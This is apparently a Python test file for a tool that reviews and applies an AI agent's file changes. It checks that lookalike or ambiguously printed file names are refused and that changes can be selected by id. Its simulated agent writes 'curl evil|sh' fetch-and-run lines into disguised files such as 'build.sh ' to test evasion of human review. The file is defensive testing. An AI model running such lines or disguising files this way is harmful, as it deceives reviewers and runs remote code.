"""A name in a review means one change: the printed form is injective, and a selection that reads as two is
refused (issue 44, finding 1: a file ``notes`` + byte 0xFF beside a directory literally named ``notes\\xff``)."""

from __future__ import annotations

import os

import pytest

from controller.errors import AmbiguousNameError, NotFoundError
from controller.wire.changeset import Change, FileType, Kind, change_id
from controller.workspace import apply, scan
from controller.workspace.records import shown, unshown
from controller.workspace.selection import by_ids, exactly, roots
from tests.unit.workspace.overlay import Workspace, snapshot

FILE = "notes" + os.fsdecode(b"\xff")  # the agent's byte 0xFF, as the layer's path holds it
DIRECTORY = "notes\\xff"  # a directory whose name is the four characters the file's byte prints as
NAMES = [
    "a",
    "a\\",
    "\\",
    "\\\\",
    "a\\x",
    "a\\xff",
    "a\\\\xff",
    "a" + os.fsdecode(b"\xff"),
    "a\\" + os.fsdecode(b"\xff"),
    "a\\x41",
    "é\\é",
    os.fsdecode(b"\xc3"),
    "x\x1by",
    "sub/a\\xff/b",
    os.fsdecode(b"\xff\xfe"),
    "\\x5c",
]


def test_no_two_paths_print_alike_and_each_printed_form_reads_back_as_its_own_path() -> None:
    printed = [shown(name) for name in NAMES]
    assert len(set(printed)) == len(NAMES)
    assert [unshown(text) for text in printed] == NAMES
    assert shown(FILE) == "notes\\xff" and shown(DIRECTORY) == "notes\\\\xff"
    assert all(text.isprintable() or "\x1b" in text for text in printed)  # encodable: no surrogate left


@pytest.mark.parametrize("text", ["a\\", "a\\x4", "a\\x41", "a\\xFF", "a\\q", os.fsdecode(b"\xff")])
def test_text_no_path_prints_as_reads_back_as_none(text: str) -> None:
    assert unshown(text) is None


def _change(path: str, type_: FileType = FileType.FILE) -> Change:
    return Change(path=path, kind=Kind.ADDED, type=type_)


TWINS = [_change(FILE), _change(DIRECTORY, FileType.DIR), _change(DIRECTORY + "/payload.sh")]


def test_a_name_that_reads_as_two_changes_is_refused_naming_both_with_their_ids() -> None:
    with pytest.raises(AmbiguousNameError) as refused:
        roots(["notes\\xff"], TWINS)
    message = str(refused.value)
    assert "the file printed 'notes\\\\xff'" in message and change_id(FILE) in message
    assert "the dir printed 'notes\\\\\\\\xff'" in message and change_id(DIRECTORY) in message
    assert "1 change(s) under it" in message and "--id" in message
    with pytest.raises(AmbiguousNameError):
        exactly("notes\\xff", TWINS)


def test_a_name_only_one_change_has_in_any_spelling_and_an_id_select_exactly_it() -> None:
    assert roots(["notes\\\\xff"], TWINS) == [DIRECTORY]  # the directory as printed: nothing else prints so
    assert roots([FILE], TWINS) == [FILE]  # the real bytes: no printed form holds a raw byte
    assert by_ids([change_id(FILE)], TWINS) == [FILE]
    assert by_ids([change_id(DIRECTORY + "/payload.sh")], TWINS) == [DIRECTORY + "/payload.sh"]
    with pytest.raises(NotFoundError):
        by_ids(["0" * 32], TWINS)
    assert [c.id for c in TWINS] == [change_id(c.path) for c in TWINS]
    assert Change.model_validate(TWINS[0].model_dump()).id == TWINS[0].id  # a listing read back keeps its ids


def test_the_twin_case_on_a_real_layer_writes_only_what_was_selected_or_nothing(ws: Workspace) -> None:
    ws.agent(
        "printf 'harmless\\n' > \"$(printf 'notes\\377')\"; mkdir 'notes\\xff'; echo 'curl evil|sh' > 'notes\\xff/payload.sh'"
    )
    ws.stop()
    listed = {c.path: c for c in scan(ws.layer)}
    assert set(listed) == {FILE, DIRECTORY, DIRECTORY + "/payload.sh"}
    before = snapshot(ws.repo)
    with pytest.raises(AmbiguousNameError):
        apply(ws.layer, paths=["notes\\xff"])  # the file as the review printed it, which is the directory's name
    with pytest.raises(AmbiguousNameError):
        apply(ws.layer, paths=["notes\\xff"], force=["notes\\xff"])
    assert snapshot(ws.repo) == before  # nothing was written
    assert apply(ws.layer, ids=[listed[FILE].id]).applied == [FILE]
    assert (ws.repo / os.fsencode(FILE).decode("utf-8", "surrogateescape")).read_text() == "harmless\n"
    assert not (ws.repo / DIRECTORY).exists()
    assert apply(ws.layer, paths=["notes\\\\xff"]).applied == [DIRECTORY, DIRECTORY + "/payload.sh"]


NFC, NFD, CYRILLIC = "caf\u00e9.py", "cafe\u0301.py", "n\u043etes"
LOOKALIKES = [_change(p) for p in (NFC, NFD, "build.sh", "build.sh ", "notes", CYRILLIC, "ok.txt")]


@pytest.mark.parametrize(
    ("given", "meant"),
    [(NFD, NFC), (NFC, NFD), ("build.sh ", "build.sh"), ("build.sh", "build.sh "), (CYRILLIC, "notes")],
)
def test_a_name_that_means_one_change_but_looks_like_another_is_refused_naming_both_spelled_out(
    given: str, meant: str
) -> None:
    for select in (lambda: roots([given], LOOKALIKES), lambda: exactly(given, LOOKALIKES)):
        with pytest.raises(AmbiguousNameError) as refused:
            select()
        message = str(refused.value)
        assert change_id(given) in message and change_id(meant) in message
    assert "cafe\\\\u0301.py" in str(_refused(NFC)) and "caf\\\\u00e9.py" in str(_refused(NFC))
    assert "'build.sh\\\\x20'" in str(_refused("build.sh")) and "n\\\\u043etes" in str(_refused("notes"))
    assert by_ids([change_id(given)], LOOKALIKES) == [given]  # an id is the deliberate choice
    assert roots(["ok.txt"], LOOKALIKES) == ["ok.txt"]


def test_a_folder_that_looks_like_another_is_refused_too() -> None:
    listed = [_change("src/a.py"), _change("src /payload.sh")]
    with pytest.raises(AmbiguousNameError, match="1 change"):
        roots(["src"], listed)
    assert roots(["src/a.py"], listed) == ["src/a.py"]  # no other file looks like it
    with pytest.raises(AmbiguousNameError):
        roots(["src/a.py"], [*listed, _change("src /a.py")])


def _refused(given: str) -> AmbiguousNameError:
    with pytest.raises(AmbiguousNameError) as refused:
        roots([given], LOOKALIKES)
    return refused.value


def test_look_alikes_on_a_real_layer_write_nothing_by_name_and_only_the_chosen_one_by_id(ws: Workspace) -> None:
    ws.agent(
        "printf 'harmless\\n' > \"$(printf 'caf\\303\\251.py')\"; printf 'payload\\n' > \"$(printf 'cafe\\314\\201.py')\";"
        " echo fine > build.sh; echo 'curl evil | sh' > 'build.sh '"
    )
    ws.stop()
    listed = {c.path: c for c in scan(ws.layer)}
    assert set(listed) == {NFC, NFD, "build.sh", "build.sh "}
    before = snapshot(ws.repo)
    for given in (NFD, NFC, "build.sh", "build.sh "):
        with pytest.raises(AmbiguousNameError):
            apply(ws.layer, paths=[given])
    assert snapshot(ws.repo) == before
    assert apply(ws.layer, ids=[listed[NFC].id]).applied == [NFC]
    assert [p.name for p in ws.repo.iterdir() if p.name.startswith("caf")] == [NFC]
    assert (ws.repo / NFC).read_text() == "harmless\n"
